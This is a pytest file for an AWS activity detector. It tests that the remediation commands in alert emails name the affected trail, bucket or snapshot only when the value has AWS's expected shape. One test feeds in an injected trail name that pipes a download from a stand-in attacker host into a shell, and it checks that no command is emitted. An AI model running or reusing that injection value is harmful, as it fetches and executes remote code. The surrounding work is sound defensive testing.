""" "Check next" for the ported detections: the command a responder runs on what the call
acted on (turn logging back on, make a snapshot private, ...), with the resource from the
call, and only when the value has the shape AWS gives it."""

from __future__ import annotations

import io
import json

import pytest

from detector import detections
from detector.analysis import engine
from detector.core.allowlist import Allowlist
from detector.report import alerts, digest
from tests.lake import event, key_for, write_object

CASES = [
    (
        "defense-evasion-stop-logging-cloudtrail",
        "StopLogging",
        {"name": "management-events"},
        "aws cloudtrail start-logging --region us-east-1 --name management-events",
    ),
    (
        "disable-bucket-versioning",
        "PutBucketVersioning",
        {"bucketName": "evidence", "VersioningConfiguration": {"Status": "Suspended"}},
        "--bucket evidence --versioning-configuration Status=Enabled",
    ),
    (
        "ec2-snapshot-shared-externally",
        "ModifySnapshotAttribute",
        {
            "snapshotId": "snap-0123456789abcdef0",
            "createVolumePermission": {"add": {"items": [{"group": "all"}]}},
        },
        "--snapshot-id snap-0123456789abcdef0 --attribute createVolumePermission",
    ),
]


def _email(slug: str, operation: str, request: dict[str, object]) -> str:
    buf = io.BytesIO()
    write_object(buf, [event(operation=operation, request_json=json.dumps(request))], 2)
    active = detections.activate([slug])
    result = engine.scan_object(
        io.BytesIO(buf.getvalue()), "x", Allowlist.of([]), key_for(2), active
    )
    message = digest.message(alerts.rollup(result.findings()))
    return " ".join(json.loads(message.message)["email"].replace("\\\n", " ").split())


@pytest.mark.parametrize(("slug", "operation", "request_", "command"), CASES)
def test_the_remedy_names_the_resource(slug, operation, request_, command):
    assert command in _email(slug, operation, request_)


def test_a_resource_of_the_wrong_shape_gets_no_command():
    hostile = {"name": "trail; curl evil.example | sh"}
    email = _email("defense-evasion-stop-logging-cloudtrail", "StopLogging", hostile)
    assert "aws cloudtrail start-logging --region" not in email
    assert (
        "Trail acted on (1): (values of another shape are shown, escaped, in the alert above)"
        in email
    )
